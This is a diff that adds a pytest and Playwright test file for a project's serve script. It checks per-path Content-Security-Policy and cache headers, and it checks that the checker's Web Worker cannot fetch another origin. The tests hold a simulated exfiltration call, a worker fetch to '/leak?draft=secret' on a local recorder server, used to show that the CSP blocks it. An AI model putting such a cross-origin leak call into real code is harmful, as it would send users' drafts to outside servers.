@@ -1,0 +1,199 @@
+"""``make serve`` (tools/serve.py): the headers a production server sends, and what they buy.
+
+The decisive one: the Web Worker, where the draft is checked, runs under the
+policy of its own HTTP response (a page's ``<meta>`` CSP does not reach it).
+Served by tools/serve.py, a ``fetch`` to another origin from inside the worker
+is blocked; served without the header (plain ``http.server``), the same call
+reaches the other server, which shows the test can fail.
+"""
+
+from __future__ import annotations
+
+import functools
+import http.server
+import importlib.util
+import re
+import subprocess
+import sys
+import threading
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, sync_playwright
+
+from browser_support import CHROMIUM, CHROMIUM_ARGS
+from test_checker_browser import LOAD_TIMEOUT, VIOLATING, checker_site, wait_findings  # noqa: F401
+
+REPO = Path(__file__).resolve().parent.parent
+
+
+def _serve_module():
+    spec = importlib.util.spec_from_file_location("etika_serve", REPO / "tools" / "serve.py")
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+serve = _serve_module()
+
+
+def _meta_csp() -> str:
+    text = (REPO / "docs" / "checker.md").read_text(encoding="utf-8")
+    return re.search(r'"http-equiv=Content-Security-Policy":\s*"([^"]+)"', text).group(1)
+
+
+def _running(httpd: http.server.HTTPServer) -> Iterator[str]:
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{httpd.server_address[1]}"
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+
+
+class _Recorder(http.server.BaseHTTPRequestHandler):
+    """Another origin: records every request it gets and answers 200."""
+
+    hits: list[str]
+
+    def do_GET(self) -> None:  # noqa: N802
+        self.hits.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "text/plain")
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+        self.wfile.write(b"draft received")
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+@pytest.fixture(scope="module")
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    hits: list[str] = []
+    handler = type("R", (_Recorder,), {"hits": hits})
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    for origin in _running(httpd):
+        yield origin, hits
+
+
+@pytest.fixture(scope="module")
+def served(checker_site: Path) -> Iterator[str]:  # noqa: F811
+    yield from _running(serve.make_server(checker_site, port=0))
+
+
+@pytest.fixture(scope="module")
+def plain(checker_site: Path) -> Iterator[str]:  # noqa: F811
+    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(checker_site))
+
+    class Quiet(http.server.ThreadingHTTPServer):
+        pass
+
+    httpd = Quiet(("127.0.0.1", 0), handler)
+    httpd.RequestHandlerClass.log_message = lambda *a: None  # type: ignore[method-assign]
+    yield from _running(httpd)
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    assert Path(CHROMIUM).is_file(), "chromium is missing: apt-get install chromium (make system-deps)"
+    with sync_playwright() as p:
+        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        try:
+            yield b
+        finally:
+            b.close()
+
+
+# ---------------------------------------------------------------------------
+# The headers
+
+
+def test_headers_per_path():
+    page = serve.page_csp()
+    assert page == _meta_csp().rstrip("; ") + "; frame-ancestors 'self'"
+    h = serve.headers_for("/ms/checker.html", page)
+    assert h["Content-Security-Policy"] == page and h["Cache-Control"] == "no-cache"
+    h = serve.headers_for("/en/_static/wasm/etika-worker.js", page)
+    assert h["Content-Security-Policy"] == serve.WORKER_CSP
+    directives = dict(d.strip().split(" ", 1) for d in serve.WORKER_CSP.split(";"))
+    assert directives == {"default-src": "'none'", "script-src": "'self' 'wasm-unsafe-eval'", "connect-src": "'self'"}
+    h = serve.headers_for("/ms/_static/wasm/pyodide/314.0.7/pyodide.asm.wasm", page)
+    assert h["Cache-Control"] == "public, max-age=31536000, immutable"
+    assert serve.headers_for("/ms/index.html", page)["Content-Security-Policy"] == "frame-ancestors 'self'"
+    assert serve.headers_for("/ms/_static/wasm/manifest.json", page)["Cache-Control"] == "no-cache"
+
+
+def test_the_readme_server_examples_send_the_same_policies():
+    """nginx and Apache in the README's deployment section carry these exact policies."""
+    readme = (REPO / "README.md").read_text(encoding="utf-8")
+    nginx = re.search(r"```nginx\n(.*?)```", readme, re.S).group(1)
+    apache = re.search(r"```apache\n(.*?)```", readme, re.S).group(1)
+    for block in (nginx, apache):
+        assert serve.page_csp() in block
+        assert serve.WORKER_CSP in block
+        assert serve.FRAME_ANCESTORS in block
+
+
+def test_serve_script_starts_and_sends_the_headers(checker_site: Path):  # noqa: F811
+    proc = subprocess.Popen([sys.executable, str(REPO / "tools" / "serve.py"), "--dir", str(checker_site), "--port", "0"],
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        line = proc.stdout.readline()
+        origin = re.search(r"http://127\.0\.0\.1:\d+", line).group(0)
+        with urllib.request.urlopen(origin + "/en/_static/wasm/etika-worker.js") as r:
+            assert r.headers["Content-Security-Policy"] == serve.WORKER_CSP
+            assert r.headers["Content-Type"].startswith("text/javascript")
+        with urllib.request.urlopen(origin + "/ms/checker.html") as r:
+            assert r.headers["Content-Security-Policy"].endswith("frame-ancestors 'self'")
+    finally:
+        proc.terminate()
+        proc.wait(timeout=10)
+
+
+def test_serve_script_refuses_a_directory_without_a_site(tmp_path: Path):
+    proc = subprocess.run([sys.executable, str(REPO / "tools" / "serve.py"), "--dir", str(tmp_path), "--port", "0"],
+                          capture_output=True, text=True, timeout=30)
+    assert proc.returncode == 2 and "make html" in proc.stderr
+
+
+# ---------------------------------------------------------------------------
+# In Chromium: the worker cannot reach another origin
+
+
+def _worker_fetch(browser: Browser, origin: str, target: str) -> str:
+    context = browser.new_context(service_workers="block")
+    try:
+        page = context.new_page()
+        page.goto(f"{origin}/ms/checker.html")
+        page.wait_for_selector("#etika-checker[data-state=ready]", timeout=LOAD_TIMEOUT)
+        workers = [w for w in page.workers if "/etika-worker.js" in w.url]
+        assert len(workers) == 1, [w.url for w in page.workers]
+        outcome = workers[0].evaluate(
+            "url => fetch(url).then(r => r.text(), e => 'blocked: ' + e.message)", target + "/leak?draft=secret")
+        # The checker still works under these headers.
+        page.fill("#etika-post-text", VIOLATING)
+        wait_findings(page, "personal-attack")
+        return outcome
+    finally:
+        context.close()
+
+
+def test_worker_cannot_fetch_another_origin(browser: Browser, served: str, elsewhere: tuple[str, list[str]]):
+    other, hits = elsewhere
+    before = len(hits)
+    outcome = _worker_fetch(browser, served, other)
+    assert outcome.startswith("blocked:"), outcome
+    assert hits[before:] == []
+
+
+def test_without_the_header_the_worker_could(browser: Browser, plain: str, elsewhere: tuple[str, list[str]]):
+    """The control: the same call from a worker served without a CSP header reaches the other origin."""
+    other, hits = elsewhere
+    before = len(hits)
+    outcome = _worker_fetch(browser, plain, other)
+    assert outcome == "draft received"
+    assert hits[before:] == ["/leak?draft=secret"]
